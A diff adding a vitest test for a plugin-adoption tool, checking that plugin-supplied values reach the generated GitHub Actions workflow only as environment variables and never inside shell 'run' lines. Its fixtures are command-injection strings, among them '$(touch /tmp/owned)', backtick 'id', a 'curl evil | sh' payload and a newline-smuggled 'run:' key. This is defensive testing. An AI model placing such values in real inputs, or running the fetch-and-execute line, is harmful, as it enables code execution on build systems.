@@ -1,5 +1,6 @@
 /** adopt's reading of a plugin: the Python its CI runs the tools on. */
 import { describe, expect, it } from "vitest";
+import { parse as parseYaml } from "yaml";
 import { dataOf } from "../../src/render/render.js";
 import { composeAdoption, inspectPlugin } from "../../src/update/adoption.js";
 
@@ -82,4 +83,39 @@ describe("a MANIFEST that SPS's YAML would read otherwise is refused", () => {
       expect(() => adopt(head + base)).not.toThrow();
     },
   );
+});
+
+describe("values read from a plugin never reach a workflow's shell as code", () => {
+  it.each([
+    ["$(touch /tmp/owned)", ["`id`"]],
+    ['"; curl evil | sh; "', ["tests/$(whoami)"]],
+    ["sdk==1.0\nrun: evil", ["a\nb"]],
+  ])("sdk %j, tests %j", (sdk, tests) => {
+    const plugin = {
+      answers: {
+        type: "aa" as const,
+        starter: "example" as const,
+        name: "Gate",
+        description: "d",
+        author: "",
+        email: "",
+        sps: "6.0",
+      },
+      adopted: { python: "3.8", sdk, pipfile: true, requirements: [], tests },
+    };
+    const workflow = String(
+      dataOf(composeAdoption(plugin, "0").get(".github/workflows/sps-plugin.yml") ?? ""),
+    );
+    const parsed = parseYaml(workflow) as {
+      jobs: Record<string, { steps: { run?: string; env?: Record<string, string> }[] }>;
+    };
+    const steps = Object.values(parsed.jobs).flatMap((job) => job.steps);
+    for (const step of steps) {
+      for (const value of [sdk, ...tests]) expect(step.run ?? "", step.run).not.toContain(value);
+    }
+    // They arrive as environment variables, which YAML reads back exactly.
+    const env = steps.flatMap((step) => Object.values(step.env ?? {}));
+    expect(env).toContain(sdk);
+    for (const test of tests) expect(env).toContain(test);
+  });
 });
